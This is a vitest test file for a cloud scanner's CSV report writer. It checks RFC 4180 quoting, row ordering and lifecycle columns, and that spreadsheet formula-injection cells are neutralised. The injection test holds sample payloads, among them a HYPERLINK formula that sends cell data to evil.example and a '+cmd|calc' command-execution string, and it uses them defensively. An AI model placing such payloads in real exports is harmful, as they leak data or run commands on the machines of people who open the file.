import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvCell, renderCsv } from '../../../src/report/csv.ts';
import { bucketRef, makeFinding, makeReport } from '../../support/report-factory.ts';
import { HOSTILE_NAME, makeMonitoredReport } from '../../support/monitored-report.ts';

/** An RFC 4180 reader, strict about what the writer must produce: CRLF records, quoted fields. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    const ch = text[i]!;
    if (ch === '"' && field === '') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') (field += '"'), (i += 2);
        else if (text[i] === '"') {
          i += 1;
          break;
        } else field += text[i++];
      }
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`text after closing quote at ${i}`);
    } else if (ch === ',') record.push(field), (field = ''), (i += 1);
    else if (ch === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
      record.push(field), records.push(record), (record = []), (field = ''), (i += 2);
    } else if (ch === '\n') throw new Error(`bare LF at ${i}`);
    else if (ch === '"') throw new Error(`quote inside an unquoted field at ${i}`);
    else (field += ch), (i += 1);
  }
  if (field !== '' || record.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
}

const rowsByName = (text: string) => {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(header!.map((column, i) => [column, row[i] ?? ''])));
};

describe('renderCsv', () => {
  it('writes a header and one RFC 4180 record per finding, every record with every column', () => {
    const text = renderCsv(makeReport());
    const records = parseCsv(text);
    expect(records[0]).toEqual([...CSV_COLUMNS]);
    expect(records).toHaveLength(1 + 8);
    for (const record of records) expect(record).toHaveLength(CSV_COLUMNS.length);
  });

  it('orders rows like the table (fail by severity, unknown, error, pass) and fills the finding columns', () => {
    const rows = rowsByName(renderCsv(makeReport()));
    expect(rows.map((r) => `${r.status}:${r.resource_name}`)).toEqual([
      'fail:dashcam-images',
      'fail:customer-uploads',
      'fail:backups/2024 q1?',
      'fail:assets-site',
      'unknown:billing-exports',
      'error:analytics-raw',
      'pass:app-logs',
      'pass:app-logs',
    ]);
    const first = rows[0]!;
    expect(first).toMatchObject({
      severity: 'critical',
      rule_id: 'aws-s3-bucket-not-publicly-readable',
      provider: 'aws',
      account: '123456789012',
      region: 'ap-northeast-1',
      resource_type: 'aws.s3.bucket',
      resource_id: 'arn:aws:s3:::dashcam-images',
      reason_trace: 'account-bpa note: account Block Public Access is not configured\nbucket-policy PublicRead grants: Allow s3:GetObject to Principal "*"',
    });
    expect(first.remediation).toMatch(/^Turn on S3 Block Public Access.*\naws s3api put-public-access-block/s);
    expect(rows[4]!.unreadable).toBe('policy: GetBucketPolicy AccessDenied: Access Denied');
  });

  it('fills lifecycle, first seen, open for, suppression and resolved columns when present', () => {
    const rows = rowsByName(renderCsv(makeMonitoredReport()));
    const row = (name: string) => rows.find((r) => r.resource_name === name && r.status !== 'pass') ?? rows.find((r) => r.resource_name === name)!;
    expect(row('dashcam-images')).toMatchObject({ lifecycle: 'existing', first_seen: '2022-01-10T08:00:00.000Z', open_for: '3 years 1 month' });
    expect(row('customer-uploads')).toMatchObject({ lifecycle: 'new', first_seen: '', open_for: '' });
    expect(row('backups/2024 q1?')).toMatchObject({ suppressed_reason: 'public dataset by design', suppressed_owner: 'data-team', suppressed_until: '2025-12-31' });
    expect(row('old-uploads')).toMatchObject({ status: 'pass', lifecycle: 'resolved', first_seen: '2023-05-01T00:00:00.000Z', resolved_at: '2025-03-01T10:00:04.250Z' });
  });

  it('marks a passing finding that used to fail as resolved instead of adding a second row', () => {
    const report = makeReport();
    const pass = report.findings.find((f) => f.status === 'pass')!;
    report.comparison = { against: 'baseline:old.json', resolved: [{ fingerprint: pass.fingerprint, ruleId: pass.ruleId, severity: pass.severity, resource: pass.resource, resolvedAt: '2025-03-01T10:00:04.250Z' }] };
    const rows = rowsByName(renderCsv(report));
    expect(rows).toHaveLength(8);
    expect(rows.filter((r) => r.lifecycle === 'resolved').map((r) => r.fingerprint)).toEqual([pass.fingerprint]);
  });

  it('neutralises cells a spreadsheet would run as formulas', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}HYPERLINK("http://x")`).replace(/^"/, '')).toMatch(/^'/);
    const findings = [
      makeFinding('aws-s3-bucket-not-publicly-readable', bucketRef('=HYPERLINK("http://evil.example/?"&A1,"click")'), 'fail', { message: '@SUM(1+1)' }),
      makeFinding('aws-s3-bucket-not-publicly-writable', bucketRef('-2+3'), 'fail', { message: '+cmd|calc' }),
    ];
    const rows = rowsByName(renderCsv(makeReport({ findings })));
    expect(rows[0]!.resource_name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rows[0]!.message).toBe(`'@SUM(1+1)`);
    expect(rows[1]!.resource_name).toBe(`'-2+3`);
    expect(rows[1]!.message).toBe(`'+cmd|calc`);
    // Cells that merely contain those characters are left alone.
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('quotes commas, quotes and line breaks and keeps the text intact', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    const findings = [makeFinding('aws-s3-bucket-not-publicly-readable', bucketRef(HOSTILE_NAME), 'fail', { message: 'a, "b"\r\nc' })];
    const rows = rowsByName(renderCsv(makeReport({ findings })));
    expect(rows[0]!.resource_name).toBe(HOSTILE_NAME);
    expect(rows[0]!.message).toBe('a, "b"\r\nc');
  });

  it('writes only the header for a report without findings', () => {
    expect(renderCsv(makeReport({ findings: [] }))).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });
});
